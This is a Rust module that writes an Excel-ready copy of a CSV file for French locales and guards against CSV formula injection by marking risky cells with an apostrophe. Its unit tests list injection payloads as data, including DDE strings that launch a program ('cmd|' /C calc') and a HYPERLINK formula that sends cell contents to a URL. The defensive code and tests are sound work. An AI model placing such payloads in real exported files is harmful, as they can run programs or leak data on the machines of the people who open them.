//! A copy of a CSV file that a French Excel opens with a double click: UTF-8 with its mark, semicolons, decimal commas
//! as they were, and no cell that Excel would compute.

use std::fs::File;
use std::io::{BufWriter, Read as _, Seek as _, Write as _};
use std::path::{Path, PathBuf};

use ::csv::{ByteRecord, QuoteStyle, Terminator, WriterBuilder};
use unicode_normalization::UnicodeNormalization as _;

use crate::base::atomic_file::folder_of;
use crate::base::disk::{disk, shown};
use crate::base::error::{Error, ErrorKind, Result};
use crate::base::text::is_hidden;
use crate::m;
use crate::preview::{About, SAMPLE, Sample, dialect};
use crate::tabular::{Dialect, TextOptions};

/// What was written.
#[derive(Debug)]
pub struct ExcelCopy {
    pub path: PathBuf,
    /// How many cells begin with an apostrophe so as to be shown.
    pub marked: u64,
}

/// Writes the copy beside the untouched `path`, as `NAME.excel.csv`. Reads and writes it piece by piece, whatever its
/// size.
pub fn excel_fr(path: &Path) -> Result<ExcelCopy> {
    let reading_failed = |error| disk(path, &error);
    let mut file = File::open(path).map_err(reading_failed)?;
    let total = file.metadata().map_err(reading_failed)?.len();
    let mut head = Vec::new();
    (&file).take(SAMPLE as u64).read_to_end(&mut head).map_err(reading_failed)?;
    file.rewind().map_err(reading_failed)?;
    let whole = total <= head.len() as u64;
    let sample = Sample { bytes: head.into(), whole, total: Some(total), about: About::file(path) };
    let how = dialect(&sample, &TextOptions::default())
        .ok_or_else(|| Error::new(ErrorKind::Usage, shown(path), m!("excel-no-csv")))?;
    let copy = path.with_extension("excel.csv");
    let folder = folder_of(path);
    let writing_failed = |error: std::io::Error| disk(&copy, &error);
    let mut part = tempfile::NamedTempFile::new_in(folder).map_err(writing_failed)?;
    let marked = convert(file, part.as_file_mut(), &how, path, &copy)?;
    // As private as the original.
    let permissions = std::fs::metadata(path).map_err(reading_failed)?.permissions();
    part.as_file().set_permissions(permissions).map_err(writing_failed)?;
    part.as_file().sync_all().map_err(writing_failed)?;
    part.persist_noclobber(&copy).map_err(|failed| match failed.error.kind() {
        std::io::ErrorKind::AlreadyExists => Error::new(ErrorKind::Exists, shown(&copy), m!("excel-exists")),
        _ => disk(&copy, &failed.error),
    })?;
    Ok(ExcelCopy { path: copy, marked })
}

/// How many cells were marked.
fn convert(source: File, target: &mut File, how: &Dialect, path: &Path, copy: &Path) -> Result<u64> {
    let mut rows = how.rows(source);
    let mut target = BufWriter::new(target);
    target.write_all(b"\xef\xbb\xbf").map_err(|error| disk(copy, &error))?;
    let mut writer = WriterBuilder::new()
        .delimiter(b';')
        .quote_style(QuoteStyle::Necessary)
        .terminator(Terminator::CRLF)
        .flexible(true)
        .from_writer(target);
    let mut record = ByteRecord::new();
    let mut marked = 0;
    let mut is_first = true;
    while rows.next_into(&mut record).map_err(|error| csv_failed(path, error))? {
        for cell in &record {
            let is_obeyed = is_computed(cell) || is_first && names_separator(cell);
            is_first = false;
            marked += u64::from(is_obeyed);
            let written = if is_obeyed { writer.write_field([b"'", cell].concat()) } else { writer.write_field(cell) };
            written.map_err(|error| csv_failed(copy, error))?;
        }
        writer.write_record(None::<&[u8]>).map_err(|error| csv_failed(copy, error))?;
    }
    writer.flush().map_err(|error| disk(copy, &error))?;
    Ok(marked)
}

/// Whether a spreadsheet would compute `cell`, start a program for it, or show something else than what it says: it
/// begins with a sign of formulas, in any width and behind whatever is not seen, or with NUL, a tab or a line's end, which
/// some programs take for the beginning of a cell; and is no number. An apostrophe shows it: every spreadsheet then takes
/// the cell for text, and unlike a tab nothing trims it away (owasp.org, CSV Injection).
fn is_computed(cell: &[u8]) -> bool {
    // Most cells are told by their first byte.
    if cell.first().is_none_or(|first| first.is_ascii_alphanumeric()) {
        return false;
    }
    let cell = String::from_utf8_lossy(cell);
    let seen = cell.trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || is_hidden(c) || c == '"');
    let begins = seen.chars().next().and_then(|first| std::iter::once(first).nfkc().next());
    let is_formula = matches!(begins, Some('=' | '+' | '-' | '@')) || cell.starts_with(['\0', '\t', '\r', '\n']);
    // A dash that stands for nothing is no formula.
    is_formula && seen.contains(char::is_alphanumeric) && !is_number(cell.trim())
}

/// Whether Excel would cut all rows anew because of `cell`, the first of a file: behind a comma in another, a formula
/// would begin one.
fn names_separator(cell: &[u8]) -> bool {
    cell.trim_ascii_start().get(..4).is_some_and(|begins| begins.eq_ignore_ascii_case(b"sep="))
}

/// Whether French or English writes a number so, with its sign: `-12,5`, `- 1 234.5`, `-1,234.5e3`, `+2,5 %`. A whole
/// number with a plus is a telephone number or a code, whose plus Excel would drop.
fn is_number(text: &str) -> bool {
    let (amount, unit) = match text.strip_suffix(['%', '€']) {
        Some(amount) => (amount.trim_end(), true),
        None => (text, false),
    };
    let Some(unsigned) = amount.strip_prefix(['-', '+']) else { return is_unsigned(amount) };
    let is_whole = !unit && !unsigned.contains([',', '.', 'e', 'E']);
    is_unsigned(unsigned.trim_start()) && !(amount.starts_with('+') && is_whole)
}

/// Digits, in threes perhaps, with decimals and an exponent perhaps.
fn is_unsigned(text: &str) -> bool {
    let digits = |text: &str| text.bytes().all(|byte| byte.is_ascii_digit());
    let (mantissa, exponent) = text.split_once(['e', 'E']).unwrap_or((text, "0"));
    let (whole, decimals) = mantissa.rsplit_once([',', '.']).unwrap_or((mantissa, ""));
    let mut groups = whole.split([' ', '\u{a0}', '\u{202f}', '\u{2009}', ',']);
    let first = groups.next().unwrap_or_default();
    let grouped = groups.clone().next().is_none() || (1..=3).contains(&first.len());
    let exponent = exponent.strip_prefix(['-', '+']).unwrap_or(exponent);
    digits(first)
        && grouped
        && groups.all(|group| group.len() == 3 && digits(group))
        && digits(decimals)
        && !(whole.is_empty() && decimals.is_empty())
        && !exponent.is_empty()
        && digits(exponent)
}

fn csv_failed(path: &Path, error: ::csv::Error) -> Error {
    match error.into_kind() {
        ::csv::ErrorKind::Io(error) => disk(path, &error),
        _ => Error::new(ErrorKind::Unexpected, shown(path), m!("excel-unreadable")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_spreadsheet_would_compute_is_told_from_numbers_and_words() {
        let computed = [
            "=1+1",
            "=cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "-cmd|' /C calc'!A0",
            "@SUM(1)",
            "-1+1",
            "--1",
            "-2-3",
            "=HYPERLINK(\"http://x/?\"&A1;\"clic\")",
            "=\"a\";\"b\"",
            "+1",
            "+33",
            "+33 2 99 12 34 56",
            "+33299123456",
            "- tiret",
            "-12 km",
            "-1.234.567",
            "-12/05/2024",
            "@nom",
            "-0x1A",
            "-1e",
            "-e5",
            "-1,2,3",
            "-12 34",
            // In any width, and behind what is not seen.
            "＝1+1",
            "＋1",
            "－1+1",
            "＠SUM(1)",
            "﹦1",
            "﹣a",
            "⁺1",
            " =1",
            "\u{a0}=1",
            "\u{3000}=1",
            "\u{feff}=1",
            "\u{200b}\u{ad}=1",
            "\0=1",
            "\u{1b}=1",
            "\t=1",
            "\r\n=1",
            "\"=1",
            " \" =1\"",
            "\u{3164}@x",
            // Some programs begin a cell behind these.
            "\ta",
            "\ra",
            "\0a",
            "\na",
        ];
        for cell in computed {
            assert!(is_computed(cell.as_bytes()), "{cell:?}");
        }
        let shown = [
            "",
            "a",
            "été",
            "1",
            "12,5",
            "-12,5",
            "-1.5e3",
            "-1.5E-3",
            "- 12",
            "-1 234,56",
            "-1\u{a0}234\u{202f}567",
            "-1,234.56",
            "-1,234,567",
            "-.5",
            "-,5",
            "-5.",
            "-0",
            "+2,5",
            "+1.5e3",
            "+3 %",
            "-3,50 €",
            " -12 ",
            "\t12",
            "31/01/2024",
            "2024-01-31",
            "1+1",
            "a=b",
            "-",
            "--",
            " - ",
            "=",
            "+",
            "@",
            "...",
            "—",
            "– 12",
            "\"a\"",
            "'=1+1",
            "(=1)",
            "#N/A",
            "48.1,-1.67",
            "nom@exemple.org",
            "\n",
            "\t",
            " ",
        ];
        for cell in shown {
            assert!(!is_computed(cell.as_bytes()), "{cell:?}");
        }
    }
}
